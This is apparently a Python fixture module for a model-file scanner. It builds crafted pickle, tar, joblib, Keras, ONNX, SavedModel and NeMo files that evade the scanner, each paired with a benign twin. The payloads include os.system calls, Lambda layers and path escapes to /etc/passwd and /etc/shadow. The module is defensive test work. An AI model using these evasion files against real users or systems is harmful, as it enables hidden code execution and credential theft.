"""Issue 19 session 8 (bypassC): crafted model files aiscan called safe, one small file each, with benign twins.

Each class is a place where aiscan's reading and a loader's reading of the same bytes differed: a second gzip member,
a tar link or sparse member, a joblib array sized differently, a protobuf field number or varint encoding, a JSON key
order, a zip behind other data, an OmegaConf interpolation, a BUILD applied to a class. Built from opcodes and
published layouts; nothing is ever loaded."""

from __future__ import annotations

import argparse
import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zlib

from . import builders as b
from .bypass_corpus import EVIL, P0_EVIL, Bypass, _keras_zip
from .corpus import _keras_config

BENIGN_PICKLE = pickle.dumps({"w": [1.5, 2], "n": "x"}, protocol=4)
WEIGHTS = b.torch_zip(b.torch_state_pickle())
SYSINFO = b.proto(2) + b.EMPTY_DICT + b.STOP


# ---------------------------------------------------------------- pickle: BUILD / item opcodes on an imported global


def _build_global(module: str, name: str) -> bytes:
    """BUILD (None, {attr: value}) on the class itself: the loader runs setattr(module.name, attr, value)."""
    state = b.NONE + b.EMPTY_DICT + b.ustr("__repr__") + b.glob("torch", "Size") + b.SETITEM + b.TUPLE2
    return b.proto(2) + b.glob(module, name) + state + b.BUILD + b.STOP


def _pickle_cases() -> list[Bypass]:
    setitems = b.proto(2) + b.glob("collections", "OrderedDict") + b.MARK + b.ustr("k") + b.bint(1) + b.SETITEMS + b.STOP
    appends = b.proto(2) + b.glob("collections", "deque") + b.MARK + b.bint(1) + b.APPENDS + b.STOP
    return [
        Bypass("c_build_class.pkl", _build_global("torch", "Tensor"), "malicious", "pickle-mutation", "BUILD sets an attribute of torch.Tensor itself"),
        Bypass("c_build_ns.pkl", _build_global("argparse", "Namespace"), "malicious", "pickle-mutation", "BUILD on an allowed Python class"),
        Bypass("c_setitems_class.pkl", setitems, "malicious", "pickle-mutation", "SETITEMS on an imported class (item assignment on it)"),
        Bypass("c_appends_class.pkl", appends, "malicious", "pickle-mutation", "APPENDS on an imported class (calls its extend)"),
    ]


# ---------------------------------------------------------------- compression: concatenated streams


def _multi_stream() -> list[Bypass]:
    return [
        Bypass("c_multi_member.pkl.gz", gzip.compress(BENIGN_PICKLE) + gzip.compress(EVIL), "malicious", "multi-stream",
               "second gzip member holds a second pickle (GzipFile reads every member)"),
        Bypass("c_split_member.pkl.gz", gzip.compress(EVIL[:5]) + b"\x00" * 8 + gzip.compress(EVIL[5:]), "malicious", "multi-stream",
               "one pickle split over two gzip members with zero padding between"),
        Bypass("c_multi_stream.bz2", bz2.compress(BENIGN_PICKLE) + bz2.compress(EVIL), "malicious", "multi-stream", "two bz2 streams (BZ2File)"),
        Bypass("c_multi_stream.xz", lzma.compress(BENIGN_PICKLE) + lzma.compress(EVIL), "malicious", "multi-stream", "two xz streams (LZMAFile)"),
        Bypass("c_multi_stream_zlib.pkl", zlib.compress(BENIGN_PICKLE) + zlib.compress(EVIL), "malicious", "multi-stream",
               "two zlib streams (joblib's zlib reader goes on)"),
    ]


# ---------------------------------------------------------------- tar: links and sparse members


def tar_with(members: dict[str, bytes], links: dict[str, str], kind: bytes = tarfile.LNKTYPE) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
        for name, target in links.items():
            info = tarfile.TarInfo(name)
            info.type = kind
            info.linkname = target
            tf.addfile(info)
    return out.getvalue()


def _octal(n: int, width: int) -> bytes:
    return b"%0*o" % (width - 1, n) + b"\x00"


def sparse_tar(name: str, chunks: list[tuple[int, bytes]], extra: dict[str, bytes]) -> bytes:
    """A GNU (old format) sparse member: ``chunks`` (offset, data) are stored back to back, holes read as zeros."""
    stored = b"".join(data for _, data in chunks)
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as tf:
        info = tarfile.TarInfo(name)
        info.size = len(stored)
        tf.addfile(info, io.BytesIO(stored))
        for other, data in extra.items():
            more = tarfile.TarInfo(other)
            more.size = len(data)
            tf.addfile(more, io.BytesIO(data))
    raw = bytearray(out.getvalue())
    raw[156:157] = b"S"
    for i, (offset, data) in enumerate(chunks):
        at = 386 + 24 * i
        raw[at : at + 24] = _octal(offset, 12) + _octal(len(data), 12)
    raw[482] = 0
    raw[483:495] = _octal(chunks[-1][0] + len(chunks[-1][1]), 12)
    raw[148:156] = b" " * 8
    raw[148:156] = b"%06o\x00 " % sum(raw[:512])
    return bytes(raw)


def _storages(payload: bytes) -> bytes:
    args = b.proto(2) + b.MARK + b.ustr("0") + b.ustr("cpu") + b.glob("torch", "FloatStorage") + b.TUPLE + b.STOP
    return b"\x80\x02K\x01." + args + struct.pack("<q", 4) + b"\x00" * 16 + payload


def _sparse_pickle() -> bytes:
    """Stored chunks read as ``B<n>`` swallowing the evil tail, then STOP; tarfile's reading puts n zeros (the hole)
    under the ``B``, and the tail runs."""
    tail = b"0" + P0_EVIL
    head = b"\x80\x02B" + struct.pack("<I", len(tail))
    return sparse_tar("pickle", [(0, head), (len(head) + len(tail), tail + b".")],
                      {"sys_info": SYSINFO, "storages": b"\x80\x02K\x00.", "tensors": b"\x80\x02K\x00."})


def _two_storage_types() -> bytes:
    """The args pickle imports DoubleStorage (then pops it) and uses FloatStorage: 16 raw bytes, not 32."""
    args = b.proto(2) + b.glob("torch", "DoubleStorage") + b.POP + b.MARK + b.ustr("0") + b.ustr("cpu") + b.glob("torch", "FloatStorage") + b.TUPLE + b.STOP
    storages = b"\x80\x02K\x01." + args + struct.pack("<q", 4) + b"\x00" * 16 + EVIL + b"\x00" * 16
    return b.tar_bytes({"sys_info": SYSINFO, "pickle": b.call("collections", "OrderedDict"), "tensors": b"\x80\x02K\x00.", "storages": storages})


def _tar_cases() -> list[Bypass]:
    cfg = b"target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n  _target_: os.system\n"
    torch_members = {"sys_info": SYSINFO, "pickle": b.call("collections", "OrderedDict"), "tensors": b"\x80\x02K\x00."}
    return [
        Bypass("c_hardlink_config.nemo", tar_with({"notes.txt": cfg, "model_weights.ckpt": WEIGHTS}, {"model_config.yaml": "notes.txt"}),
               "malicious", "tar-links", "model_config.yaml is a hard link to a text member"),
        Bypass("c_symlink_config.nemo", tar_with({"notes.txt": cfg, "model_weights.ckpt": WEIGHTS}, {"model_config.yaml": "notes.txt"}, tarfile.SYMTYPE),
               "malicious", "tar-links", "model_config.yaml is a symbolic link to a text member"),
        Bypass("c_link_storages.pt", tar_with({**torch_members, "blob": _storages(EVIL + b"\x80\x02].")}, {"storages": "blob"}),
               "malicious", "tar-links", "torch tar 'storages' is a link: the pickle after the raw bytes was never read as a record"),
        Bypass("c_sparse_pickle.pt", _sparse_pickle(), "malicious", "tar-sparse", "GNU sparse 'pickle' record: the hole shifts the opcodes"),
        Bypass("c_two_storage_types.pt", _two_storage_types(), "malicious", "tar-sizes", "storage args import two storage types"),
    ]


# ---------------------------------------------------------------- joblib array sizes


def joblib_array(code: str, count: int, array: bytes, rest: bytes, elsize: int = 255) -> bytes:
    """A joblib stream whose NumpyArrayWrapper (dtype ``code``, shape (count,)) is followed by ``array``, then ``rest``."""
    dtype = (b.glob("numpy", "dtype") + b.MARK + b.ustr(code) + b.NEWFALSE + b.NEWTRUE + b.TUPLE + b.REDUCE + b.MARK + b.bint(3)
             + b.ustr("<") + b.NONE + b.NONE + b.NONE + b.bint(elsize) + b.bint(4) + b.bint(8) + b.TUPLE + b.BUILD)
    state = (b.EMPTY_DICT + b.MARK + b.ustr("subclass") + b.glob("numpy", "ndarray") + b.ustr("shape") + b.bint(count) + b.TUPLE1
             + b.ustr("order") + b.ustr("C") + b.ustr("dtype") + dtype + b.ustr("allow_mmap") + b.NEWFALSE + b.SETITEMS)
    wrapper = b.glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b.EMPTY_TUPLE + b.NEWOBJ + state + b.BUILD
    head = b.proto(4) + b.glob("sklearn.preprocessing._label", "LabelEncoder") + b.EMPTY_TUPLE + b.NEWOBJ + b.EMPTY_DICT + b.MARK + b.ustr("classes_")
    return head + wrapper + array + rest


EVIL_REST = b.SETITEMS + b.BUILD + b.glob("os", "system") + b.MARK + b.ustr("id") + b.TUPLE + b.REDUCE + b.POP + b.STOP
GOOD_REST = b.SETITEMS + b.BUILD + b.STOP


def _joblib_cases() -> list[Bypass]:
    return [
        Bypass("c_joblib_unicode.joblib", joblib_array("<U1", 3, b"abc.\x00" + b"\x00" * 7, EVIL_REST, elsize=4), "malicious", "joblib-sizes",
               "'<U1' x3 is 12 bytes (4 a character): a STOP in the bytes the walk took for opcodes"),
        Bypass("c_joblib_datetime.joblib", joblib_array("<M8[ns]", 1, b".\x00" + b"\x00" * 6, EVIL_REST), "malicious", "joblib-sizes",
               "datetime64[ns] array: its 8 bytes were not skipped"),
        Bypass("c_joblib_void_state.joblib", joblib_array("V1", 3, b"abc.\x00" + b"\x00" * 7, EVIL_REST, elsize=4), "malicious", "joblib-sizes",
               "void dtype whose BUILD state sets another itemsize"),
    ]


# ---------------------------------------------------------------- Keras


def _h5(*attributes: tuple[bytes, bytes]) -> bytes:
    return b"\x89HDF\r\n\x1a\n" + b"\x00" * 100 + b"".join(name + b"\x00" + value + b"\x00" * 40 for name, value in attributes) + b"\x00" * 24


def _keras_cases() -> list[Bypass]:
    lam = json.dumps({"name": "m", "class_name": "Sequential", "config": {"name": "s", "layers": [
        {"name": "l", "class_name": "Lambda", "config": {"name": "l", "function": ["4wEAAA", None, None]}}]}}).encode()
    escaped = lam.replace(b'"class_name"', b'"\\u0063lass_name"')
    decoy = b'{"class_name": "Sequential", "config": {"layers": []}}'
    many = tuple((b"attr%d" % i, decoy) for i in range(300))

    def ref(module: str, fn: str) -> bytes:
        node = {"module": module, "class_name": "function", "config": fn, "registered_name": fn}
        return json.dumps({"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", "config": {"activation": node}}]}}).encode()

    safetensors = b.safetensors({"a": ("F32", [1], (0, 4))}, b"\x00" * 4)
    gguf = b.gguf({"general.architecture": "llama", "general.name": "m"})
    return [
        Bypass("c_h5_key_order.h5", _h5((b"training_config", decoy), (b"model_config", lam)), "malicious", "keras",
               "model_config whose first key is not class_name, behind a decoy config"),
        Bypass("c_h5_escaped_keys.h5", _h5((b"training_config", decoy), (b"model_config", escaped)), "malicious", "keras",
               "model_config with \\u-escaped keys, behind a decoy"),
        Bypass("c_h5_decoy_flood.h5", _h5(*many, (b"model_config", _keras_config(lambda_layer=True))), "malicious", "keras",
               "300 decoy configs exhaust the candidate budget before the real one"),
        Bypass("c_polyglot.keras", gguf + _keras_zip(_keras_config(lambda_layer=True)), "malicious", "keras",
               "GGUF file with a .keras zip appended (zipfile finds the zip by its end record)"),
        Bypass("c_polyglot_st.keras", safetensors + _keras_zip(_keras_config(lambda_layer=True)), "malicious", "keras",
               "safetensors file with a .keras zip appended"),
        Bypass("c_tf_write_file.keras", _keras_zip(ref("tensorflow.python.ops.gen_io_ops", "write_file")), "malicious", "keras",
               "function reference to a TensorFlow file-writing op inside the trusted namespace"),
    ]


# ---------------------------------------------------------------- protobuf formats (SavedModel, ONNX)


def _saved_model(node: bytes) -> bytes:
    return b.pb_field(1, 1) + b.pb_field(2, b.pb_field(2, b.pb_field(1, node)))


def _external(location: str) -> bytes:
    return (b.pb_field(1, 4) + b.pb_field(2, 1) + b.pb_field(8, "w")
            + b.pb_field(13, b.pb_field(1, "location") + b.pb_field(2, location)) + b.pb_field(14, 1))


def _onnx(*fields: bytes) -> bytes:
    return b.pb_field(1, 8) + b"".join(fields) + b.pb_field(8, b.pb_field(1, "") + b.pb_field(2, 17))


def _protobuf_cases() -> list[Bypass]:
    evil_fn = b.pb_field(1, "f") + b.pb_field(10, "local") + b.pb_field(7, b.pb_field(4, "EvilOp") + b.pb_field(7, "evil.domain"))
    sparse = b.pb_field(1, _external("../../etc/passwd")) + b.pb_field(2, b.pb_field(1, 7) + b.pb_field(8, "i")) + b.pb_field(3, 4)
    training = b.pb_field(1, b.pb_field(2, "init") + b.pb_field(5, _external("/etc/shadow")))
    return [
        Bypass("sm_varint/saved_model.pb", _saved_model(b.pb_field(1, "n0") + b"\x12\x86\x00PyFunc"), "malicious", "savedmodel",
               "NodeDef.op behind a non-minimal length varint"),
        Bypass("sm_tag/saved_model.pb", _saved_model(b.pb_field(1, "n0") + b"\x92\x00\x06PyFunc"), "malicious", "savedmodel",
               "NodeDef.op behind a two-byte tag varint"),
        Bypass("sm_quote/saved_model.pbtxt", b"meta_graphs { graph_def { node { name: 'x' op: 'PyFunc' } } }", "malicious", "savedmodel",
               "text format, single-quoted op"),
        Bypass("sm_escape/saved_model.pbtxt", b'meta_graphs { graph_def { node { name: "x" op: "Py\\106un" "c" } } }', "malicious", "savedmodel",
               "text format, octal escape and adjacent literals"),
        Bypass("c_training_info.onnx", _onnx(b.pb_field(7, b.pb_field(2, "g")), b.pb_field(20, training)), "malicious", "onnx",
               "external data escape inside a training-info graph (field 20)"),
        Bypass("c_local_function.onnx", _onnx(b.pb_field(7, b.pb_field(2, "g")), b.pb_field(25, evil_fn)), "malicious", "onnx",
               "custom-domain node inside a model-local function (field 25)"),
        Bypass("c_sparse_initializer.onnx", _onnx(b.pb_field(7, b.pb_field(2, "g") + b.pb_field(15, sparse))), "malicious", "onnx",
               "external data escape in a sparse initializer's values"),
    ]


# ---------------------------------------------------------------- NeMo


def _nemo_cases() -> list[Bypass]:
    interpolated = b"target: nemo.collections.asr.models.EncDecCTCModel\ntail: utils.os.system\nencoder:\n  _target_: nemo.${tail}\n"
    env = b"target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n  _target_: torch.nn.${oc.env:LAYER}\n"
    return [
        Bypass("c_interpolated_target.nemo", b.tar_bytes({"model_config.yaml": interpolated, "model_weights.ckpt": WEIGHTS}), "malicious", "nemo",
               "_target_ 'nemo.${tail}' resolves to nemo.utils.os.system"),
        Bypass("c_env_target.nemo", b.tar_bytes({"model_config.yaml": env, "model_weights.ckpt": WEIGHTS}), "malicious", "nemo",
               "_target_ completed from an environment variable at load time"),
    ]


def malicious_c() -> list[Bypass]:
    return _pickle_cases() + _multi_stream() + _tar_cases() + _joblib_cases() + _keras_cases() + _protobuf_cases() + _nemo_cases()


def benign_c() -> list[Bypass]:
    """The layouts the fixes must keep safe."""
    good_onnx_fn = b.pb_field(1, "Gelu") + b.pb_field(10, "pkg.torch") + b.pb_field(7, b.pb_field(4, "Erf"))
    local_opset = b.pb_field(8, b.pb_field(1, "pkg.torch") + b.pb_field(2, 1))
    uses_fn = b.pb_field(1, b.pb_field(1, "x") + b.pb_field(2, "y") + b.pb_field(4, "Gelu") + b.pb_field(7, "pkg.torch"))
    interpolated_ok = (b"target: nemo.collections.asr.models.EncDecCTCModel\nsample_rate: 16000\npre:\n"
                       b"  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  sample_rate: ${sample_rate}\n")
    cfg = b"target: nemo.collections.asr.models.EncDecCTCModel\n"
    torch_members = {"sys_info": SYSINFO, "pickle": b.call("collections", "OrderedDict"), "tensors": b"\x80\x02K\x00."}
    relu = {"module": "keras.activations", "class_name": "function", "config": "relu", "registered_name": "relu"}
    relu_cfg = json.dumps({"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", "config": {"activation": relu}}]}}).encode()
    training = json.dumps({"loss": "mse", "optimizer_config": {"class_name": "Adam", "config": {"learning_rate": 0.1}}}).encode()
    return [
        Bypass("c_ok_multi_member.joblib.gz", gzip.compress(BENIGN_PICKLE[:10]) + gzip.compress(BENIGN_PICKLE[10:]) + b"\x00" * 16, "benign",
               "multi-stream", "benign pickle over two gzip members, zero padding after"),
        Bypass("c_ok_trailing.pkl.gz", gzip.compress(BENIGN_PICKLE) + b"trailing garbage", "benign", "multi-stream",
               "gzip followed by bytes that start no member"),
        Bypass("c_ok_hardlink.nemo", tar_with({"model_config.yaml": cfg, "model_weights.ckpt": WEIGHTS}, {"copy/model_config.yaml": "model_config.yaml"}),
               "benign", "tar-links", "link to a benign config"),
        Bypass("c_ok_link_storages.pt", tar_with({**torch_members, "blob": _storages(b"\x80\x02].")}, {"storages": "blob"}), "benign", "tar-links",
               "torch tar whose storages record is a link to a benign one"),
        Bypass("c_ok_joblib_unicode.joblib", joblib_array("<U1", 3, "abc".encode("utf-32-le"), GOOD_REST, elsize=4), "benign", "joblib-sizes",
               "LabelEncoder classes_ as '<U1'"),
        Bypass("c_ok_joblib_datetime.joblib", joblib_array("<M8[ns]", 1, struct.pack("<q", 12345), GOOD_REST), "benign", "joblib-sizes",
               "datetime64[ns] array"),
        Bypass("c_ok_h5_training.h5", _h5((b"model_config", _keras_config()), (b"training_config", training)), "benign", "keras",
               "HDF5 model with a training_config (an optimizer config inside)"),
        Bypass("c_ok_relu.keras", _keras_zip(relu_cfg), "benign", "keras", "keras.activations.relu function reference"),
        Bypass("c_ok_local_function.onnx", _onnx(b.pb_field(7, b.pb_field(2, "g") + uses_fn), b.pb_field(25, good_onnx_fn), local_opset),
               "benign", "onnx", "model-local function in its own domain, imported as an opset (torch.onnx exports these)"),
        Bypass("ok_sm/saved_model.pb", _saved_model(b.pb_field(1, "n0") + b.pb_field(2, "MatMul")), "benign", "savedmodel", "plain SavedModel graph"),
        Bypass("c_ok_interpolation.nemo", b.tar_bytes({"model_config.yaml": interpolated_ok, "model_weights.ckpt": WEIGHTS}), "benign", "nemo",
               "interpolation in a value, not in a target"),
        Bypass("c_ok_pickle_object.pkl", pickle.dumps(argparse.Namespace(a=1, b="x"), protocol=2), "benign", "pickle-mutation",
               "an object BUILT after its class made it (the pickler's way)"),
    ]
